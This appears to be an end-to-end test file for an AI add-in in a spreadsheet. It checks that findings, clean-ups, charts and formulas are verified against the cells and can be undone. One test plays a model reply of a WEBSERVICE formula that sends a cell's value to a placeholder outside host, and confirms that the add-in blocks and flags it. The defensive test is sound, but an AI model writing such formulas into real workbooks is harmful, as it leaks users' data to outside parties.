import { startBuiltGateway } from '../support/built-gateway.ts';
import { partOf, startSite, startVisit, type Site, type Visit } from '../support/playground.ts';
import type { WorkbookPage } from '../support/workbook-page.ts';

let workbook: WorkbookPage;
afterEach(() => workbook.close());

const done = 'Done. It is in the workbook.';
const undone = 'Undone. The workbook is as it was.';

describe('with no model configured', () => {
  let gateway: { origin: string; close: () => Promise<void> };
  let visit: Visit;
  beforeAll(async () => {
    gateway = await startBuiltGateway();
    visit = await startVisit(gateway.origin);
  });
  afterAll(async () => {
    await visit.close();
    await gateway.close();
  });

  test('findings are told, each number leads to its cells, and go in as sentences that follow the data', async () => {
    workbook = await visit.openWorkbook();
    await workbook.select('Sales', 'A1:E38');
    const before = await workbook.cells('Sales');
    await workbook.command('Key findings');
    await workbook.says(/All \d+ numbers were checked against the cells\./);
    await workbook.answer.getByRole('button', { name: '€188,858', exact: true }).click();
    await workbook.page.waitForFunction(() => window.workbook.document?.selection.areas[0]?.top === 22);

    await workbook.use('Insert as sentences that follow the data');
    await workbook.says(done);
    const peak = 'Revenue peaked in August 2026 at €188,858.';
    expect(await workbook.text('Sales', 'A42')).toContain(peak);
    expect(await workbook.formula('Sales', 'A42')).toContain('SUM(C23:C25)');
    await workbook.button('Undo').click();
    await workbook.says(undone);
    expect(await workbook.cells('Sales')).toEqual(before);
  });

  test('a living sentence changes with the cells', async () => {
    workbook = await visit.openWorkbook();
    await workbook.select('Sales', 'A1:E38');
    await workbook.command('Key findings');
    await workbook.use('Insert as sentences that follow the data');
    await workbook.says(done);
    await workbook.page.evaluate(() => window.workbook.select('Sales', 'C24'));
    const bar = workbook.page.getByRole('textbox', { name: 'Formula', exact: true });
    await bar.fill('37000');
    await bar.press('Enter');
    expect(await workbook.page.evaluate(() => window.workbook.document?.selection.activeCell.row)).toBe(24);
    expect(await workbook.text('Sales', 'A42')).toContain('€113,622');
  });

  test('a clean-up is shown cell by cell before it is made, and is taken back whole', async () => {
    workbook = await visit.openWorkbook();
    await workbook.select('Orders', 'A1:E25');
    const before = await workbook.cells('Orders');
    await workbook.command('Clean up');
    await workbook.answer.getByRole('row', { name: /D5 “591 ” 591/ }).waitFor();
    await workbook.use('Clean up these cells');
    await workbook.says(done);
    expect(await workbook.text('Orders', 'D5')).toBe('591.00');
    expect(await workbook.text('Orders', 'C3')).toBe('Contoso');
    await workbook.button('Undo').click();
    await workbook.says(undone);
    expect(await workbook.cells('Orders')).toEqual(before);

    // Free words tick what they ask for, and a tick on a cell takes or leaves that cell.
    await workbook.prompt.fill('Remove the duplicate rows');
    await workbook.button('Send').click();
    await workbook.answer.getByRole('checkbox', { name: /^Rows with the Order of an earlier one/ }).check();
    const repairs = workbook.answer.getByRole('checkbox', { name: /^Numbers stored as text/ });
    await repairs.check();
    await workbook.answer.getByRole('checkbox', { name: 'Change D5' }).uncheck();
    expect(
      await workbook.answer
        .getByRole('checkbox', { name: /^Stray spaces|spelt/ })
        .first()
        .isChecked(),
    ).toBe(false);
    // What a step that is off would change is a key away.
    const off = workbook.answer
      .getByRole('listitem')
      .filter({ hasText: /Stray spaces|spelt/ })
      .first();
    await off.getByRole('checkbox').first().focus();
    await workbook.page.keyboard.press('Tab');
    await workbook.page.keyboard.press('Enter');
    await off.getByRole('table').waitFor();
    await workbook.use('Clean up these cells');
    await workbook.says(done);
    expect((await workbook.cells('Orders')).length).toBeLessThan(before.length);
    expect(await workbook.text('Orders', 'D5')).toBe('591 ');
    await workbook.button('Undo').click();
    await workbook.says(undone);
    expect(await workbook.cells('Orders')).toEqual(before);
  });

  test('a chart is native and draws each month once, and the list of changes takes it back', async () => {
    workbook = await visit.openWorkbook();
    const before = await workbook.cells('Sales');
    await workbook.select('Sales', 'A1:E38');
    await workbook.command('Make a chart');
    await workbook.says('Rows of the same Month are added up first, in G1:H13');
    await workbook.answer.getByRole('row', { name: 'G2 empty 2026-01' }).waitFor();
    await workbook.answer.getByRole('row', { name: /H2 empty =SUMPRODUCT/ }).waitFor();
    await workbook.use('Add the chart');
    await workbook.says(done);
    expect(await workbook.text('Sales', 'H2')).toBe('103,552');
    const chart = partOf(await workbook.saved(), 'xl/charts/chart1.xml');
    expect(chart).toMatch(/<c:lineChart>.*Sales!\$H\$2:\$H\$13/s);
    expect(await pictures(workbook)).toEqual({ own: [560, 347], fitted: [200, 124], centred: [200, 300], cells: true });

    // Another answer, in a sheet of its own; both are in the list, and the first is taken back from there.
    await workbook.command('Summarise');
    await workbook.use('Insert in a new sheet');
    await workbook.says(done);
    expect(await workbook.text('Summarise', 'A1')).toMatch(/Revenue/);
    await workbook.button('History').click();
    const log = workbook.pane.getByRole('region', { name: 'Changes in this workbook' });
    await log.getByText('new sheet Summarise').waitFor();
    await log.getByText('26 cells in Sales!G1:H13; chart at Sales!J1').click();
    await log.getByRole('row', { name: /H1 empty “Revenue”/ }).waitFor();
    await log.getByRole('button', { name: 'Undo: Make a chart' }).click();
    await log.getByText('undone').waitFor();
    expect(await workbook.cells('Sales')).toEqual(before);
    expect(await workbook.page.evaluate(() => window.workbook.document?.state.charts.length)).toBe(0);
  });

  test('a formula is explained with the cells that it reads, and a broken one repaired as its neighbours are', async () => {
    workbook = await visit.openWorkbook();
    const before = await workbook.cells('Sales');
    await workbook.select('Sales', 'E5');
    await workbook.command('Explain formula');
    await workbook.says('Orders: D5:');
    await workbook.says('All 3 numbers were checked against the cells.');
    const bar = workbook.page.getByRole('textbox', { name: 'Formula', exact: true });
    await bar.fill('=C5/F5');
    await bar.press('Enter');
    await workbook.select('Sales', 'C9');
    await workbook.select('Sales', 'E5');
    await workbook.command('Repair formula');
    await workbook.says('Why: it divides by zero: F5 is empty or 0.');
    await workbook.says('309.25');
    await workbook.answer.getByRole('row', { name: 'E5 =C5/F5 =C5/D5' }).waitFor();
    await workbook.use('Write into the cell');
    await workbook.says(done);
    expect(await workbook.cells('Sales')).toEqual(before);
  });

  test('a plain question is answered from the cells, and a formula in words goes into an empty cell beside them', async () => {
    workbook = await visit.openWorkbook();
    await workbook.select('Sales', 'G2');
    await workbook.prompt.fill('Which region sold the most?');
    await workbook.button('Send').click();
    await workbook.says('North has the highest Revenue: €562,032, 40.1% of the total; next is South with €517,205.');
    await workbook.answer.getByRole('button', { name: '€517,205', exact: true }).click();
    await workbook.page.waitForFunction(() => window.workbook.document?.selection.areas[0]?.left === 2);

    await workbook.select('Sales', 'G2');
    await workbook.prompt.fill('Write a formula for the average revenue of the South');
    await workbook.button('Send').click();
    await workbook.says('It gives: 43100.41667');
    await workbook.use('Write into the cell');
    await workbook.says(done);
    expect(await workbook.formula('Sales', 'G2')).toBe('=AVERAGEIFS(C2:C37,B2:B37,"South")');

    await workbook.prompt.fill('What will revenue be next year?');
    await workbook.button('Send').click();
    await workbook.says('such as “total Revenue by Region”');
  });

  test('findings are told in Chinese where the pane is Chinese, and go into a text box that the keyboard reaches', async () => {
    workbook = await visit.openWorkbook({ locale: 'zh-CN' });
    await workbook.select('销售', 'A1:E38');
    await workbook.command('主要发现');
    await workbook.says(/个数字均已与单元格核对/);
    await workbook.says('收入在2026年8月达到最高');
    await workbook.use('插入到文本框');
    await workbook.says('完成，已写入工作簿。');
    const { page } = workbook;
    const box = page.getByRole('group', { name: /^文本框: .*收入在2026年8月达到最高/ });
    await page.getByRole('textbox', { name: /^A1/ }).press('Control+Alt+Digit5');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Control+Home');
    await page.keyboard.type('要点：');
    await page.keyboard.press('Escape');
    expect(partOf(await workbook.saved(), 'xl/drawings/drawing1.xml')).toMatch(/txBox="1".*<a:t>要点：/s);
    await page.keyboard.press('Delete');
    await box.waitFor({ state: 'detached' });
    await page.keyboard.press('Control+z');
    await box.waitFor();
    await workbook.button('撤销').click();
    await workbook.says(/已撤销/);
    await box.waitFor({ state: 'detached' });
  });
});

describe('with a model', () => {
  let site: Site;
  beforeAll(async () => {
    site = await startSite();
  });
  afterAll(() => site.close());

  test('a wrong number is flagged with the true one and must be accepted before it goes in', async () => {
    site.backend.play({
      reply: 'Revenue comes to {{figure:f1}}. North had revenue of €562,032. Overseas had revenue of €400,000.',
    });
    workbook = await site.openWorkbook();
    await workbook.select('Sales', 'A1:E38');
    await workbook.command('Summarise');
    await workbook.says('1 of 3 numbers could not be verified in the cells.');
    await workbook.says('€1.40 million');
    const wrong = workbook.answer.getByRole('button', { name: '€400,000', exact: true });
    expect(await wrong.getAttribute('aria-description')).toContain('The cells say €323,536');
    expect(await workbook.button('Insert below the table').getAttribute('aria-disabled')).toBe('true');
    await workbook.button('Use it all the same').click();
    await workbook.use('Insert below the table');
    await workbook.says(done);
    expect(await workbook.text('Sales', 'A40')).toContain('Overseas had revenue of €400,000.');
  });

  test('a formula that would send cells away is not even tried out, and goes in when that was seen', async () => {
    site.backend.play({ reply: '=WEBSERVICE("https://example.org/?x="&C2)' });
    workbook = await site.openWorkbook();
    await workbook.select('Sales', 'G2');
    await workbook.prompt.fill('the rate of the day');
    await workbook.command('Write a formula');
    await workbook.says('Not tried out: it reaches outside this workbook (WEBSERVICE).');
    expect(await workbook.answer.getByText(/It gives|Tried out, it gives/).count()).toBe(0);
    expect(await workbook.button('Write into the cell').getAttribute('aria-disabled')).toBe('true');
    await workbook.button('Use it all the same').click();
    await workbook.use('Write into the cell');
    await workbook.says(done);
    expect(await workbook.formula('Sales', 'G2')).toBe('=WEBSERVICE("https://example.org/?x="&C2)');
  });

  test('a formula is tried out before it goes into an empty cell, and a filled one is asked about', async () => {
    site.backend.play({ reply: '```\n=SUM(C2:C37)\n```' });
    workbook = await site.openWorkbook();
    const before = await workbook.cells('Sales');
    await workbook.select('Sales', 'G2');
    await workbook.prompt.fill('the total revenue');
    await workbook.command('Write a formula');
    await workbook.says('1402773');
    expect(await workbook.cells('Sales')).toEqual(before);
    site.backend.play({ reply: '=SUM(G1:G37)' });
    await workbook.command('Write a formula');
    await workbook.says('It reads G2, the cell that it is for');
    expect(await workbook.answer.getByText('It gives').count()).toBe(0);
    site.backend.play({ reply: '```\n=SUM(C2:C37)\n```' });
    await workbook.command('Write a formula');
    await workbook.says('1402773');
    await workbook.use('Write into the cell');
    await workbook.says(done);
    expect(await workbook.formula('Sales', 'G2')).toBe('=SUM(C2:C37)');

    await workbook.select('Sales', 'B5');
    await workbook.command('Write a formula');
    await workbook.says('1402773');
    await workbook.use('Write into the cell');
    await workbook.says(/is not empty, so nothing was written/);
    expect(await workbook.text('Sales', 'B5')).toBe('North');
    await workbook.button('Write over them').click();
    await workbook.says(done);
    expect(await workbook.formula('Sales', 'B5')).toBe('=SUM(C2:C37)');
  });
});

/** The sizes of pictures that an add-in gets of the sheet's first chart, and whether one of its cells shows more than paper. */
async function pictures({ page }: WorkbookPage): Promise<unknown> {
  const frame = page.frames().find((each) => each.url().includes('/taskpane/'));
  return await frame?.evaluate(async () => {
    const images = await Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getActiveWorksheet();
      const chart = sheet.charts.getItemAt(0);
      const taken = [
        chart.getImage(),
        chart.getImage(200),
        chart.getImage(200, 300, 'FitAndCenter'),
        sheet.getRange('A1:B2').getImage(),
      ];
      await context.sync();
      return await Promise.all(
        taken.map(async ({ value }) => {
          const image = new Image();
          image.src = `data:image/png;base64,${value}`;
          await image.decode();
          return image;
        }),
      );
    });
    const canvas = new OffscreenCanvas(300, 300).getContext('2d')!;
    canvas.drawImage(images[3]!, 0, 0);
    const { data } = canvas.getImageData(0, 0, 120, 20);
    const [own, fitted, centred] = images.map(({ naturalWidth, naturalHeight }) => [naturalWidth, naturalHeight]);
    return {
      own,
      fitted,
      centred,
      cells: data.some((value, index) => index % 4 === 0 && data[index + 3] === 255 && value < 64),
    };
  });
}
